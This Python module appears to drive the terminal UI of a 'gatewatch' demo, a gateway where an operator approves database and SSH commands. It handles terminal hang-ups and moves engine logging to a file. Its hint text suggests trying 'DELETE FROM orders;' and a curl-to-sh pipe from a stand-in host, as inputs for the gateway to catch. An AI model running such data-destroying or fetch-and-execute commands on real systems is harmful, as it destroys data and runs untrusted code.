"""The demo's TUI: the operator's app as the demo's approver, with what to try as its hint, on a
terminal that may close under it.

When the terminal closes (SIGHUP) the demo must still clean up. Textual (8.x) writes to the
terminal from a writer thread; a write to a hung-up terminal fails with EIO, which ends that
thread, and the next screen update then blocks the event loop on the thread's full queue — the
demo's cleanup never runs. So the demo's driver writes through ``_TerminalOutput``, which drops
what cannot be written once the terminal is gone, and Textual shuts down as after ``q``.

The engine runs in the same process and logs to stderr, which is the terminal under the TUI: a
WARNING after a failed login was drawn over the screen (issue 16). While the TUI runs, the log
goes to ``engine.log`` in the demo's directory (the hint says so, for ``tail -f``); that
directory goes when the demo stops, so on the way out the demo prints what was logged at
WARNING and above (the last lines of it) and says how many lines there were.
"""

from __future__ import annotations

import contextlib
import logging
import os
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TextIO

from textual.driver import Driver


class _TerminalOutput:
    """The terminal as Textual's writer thread sees it; after a hang-up, writes go nowhere."""

    def __init__(self, file: TextIO) -> None:
        self._file = file

    def write(self, text: str) -> int:
        try:
            return self._file.write(text)
        except OSError:     # EIO: the terminal is gone; the demo is about to stop
            return len(text)

    def flush(self) -> None:
        with contextlib.suppress(OSError):
            self._file.flush()

    def fileno(self) -> int:
        return self._file.fileno()

    def isatty(self) -> bool:
        return self._file.isatty()


def _driver() -> type[Driver] | None:
    """Textual's POSIX driver writing through ``_TerminalOutput``; None elsewhere (default)."""
    if os.name != "posix":
        return None
    from textual.drivers.linux_driver import LinuxDriver

    class DemoDriver(LinuxDriver):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            self._file = _TerminalOutput(self._file)  # type: ignore[arg-type,assignment]

    return DemoDriver


SHOWN_ON_EXIT = 20  # the last WARNING-or-worse lines printed when the demo's TUI closes


@contextlib.contextmanager
def logs_to_file(path: Path) -> Iterator[Path]:
    """Move the root logger's terminal handlers to ``path`` (0600) while the TUI owns the
    terminal; put them back after."""
    root = logging.getLogger()
    moved = [h for h in root.handlers if _on_the_terminal(h)]
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    handler = logging.StreamHandler(os.fdopen(fd, "a", encoding="utf-8"))
    handler.setFormatter(moved[0].formatter if moved else logging.Formatter(
        "%(asctime)s %(levelname)s %(name)s: %(message)s"))
    for h in moved:
        root.removeHandler(h)
    root.addHandler(handler)
    try:
        yield path
    finally:
        root.removeHandler(handler)
        handler.close()
        for h in moved:
            root.addHandler(h)


def _on_the_terminal(handler: logging.Handler) -> bool:
    if not isinstance(handler, logging.StreamHandler) or isinstance(handler, logging.FileHandler):
        return False
    stream = handler.stream
    if stream in (sys.stderr, sys.stdout, sys.__stderr__, sys.__stdout__):
        return True
    try:
        return stream.fileno() in (1, 2)
    except (AttributeError, OSError, ValueError):
        return False


def log_summary(path: Path) -> str | None:
    """What the way out says of the log (None when nothing was logged)."""
    try:
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    except OSError:
        return None
    if not lines:
        return None
    serious = [line for line in lines
               if any(f" {level} " in line for level in ("WARNING", "ERROR", "CRITICAL"))]
    head = (f"gatewatch demo: the engine logged {len(lines)} line"
            f"{'s' if len(lines) != 1 else ''} while the TUI ran (in {path}, removed with the "
            "demo's directory)")
    if not serious:
        return head + "; no warnings."
    shown = serious[-SHOWN_ON_EXIT:]
    more = (f" (the last {len(shown)} of {len(serious)})" if len(serious) > len(shown) else "")
    return "\n".join([head + f"; warnings and errors{more}:", *shown])


async def run_tui(info: dict[str, Any], running: Callable[[Callable[[], object]], None]
                  ) -> None:
    """Run the TUI until ``q``, or until the callable it hands to ``running`` is called."""
    from tui.app import GatewatchApp
    from tui.source import LiveSource

    pg = info["postgres"]
    ssh = info["ssh"]
    hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
            f"dbname={pg['dbname']} user={pg['user']} sslmode=require'  then try DELETE FROM "
            f"orders;\n"
            f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh\n"
            f"      another terminal: . {info['dir']}/operator.env; gatewatch sessions; "
            f"gatewatch approvals\n"
            f"      engine log: tail -f {info['dir']}/engine.log")
    if os.geteuid() != 0:
        hint += (f"\n      not root: the SSH target's shells run as you "
                 f"({info['ssh_direct']['runs_as']}) and can read this demo's files")
    app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
    driver = _driver()
    if driver is not None:
        app.driver_class = driver
    running(app.exit)
    log = Path(info["dir"]) / "engine.log"
    with logs_to_file(log):
        await app.run_async()
    summary = log_summary(log)
    if summary:
        with contextlib.suppress(OSError):  # the terminal may be gone (SIGHUP)
            print(summary, file=sys.stderr, flush=True)
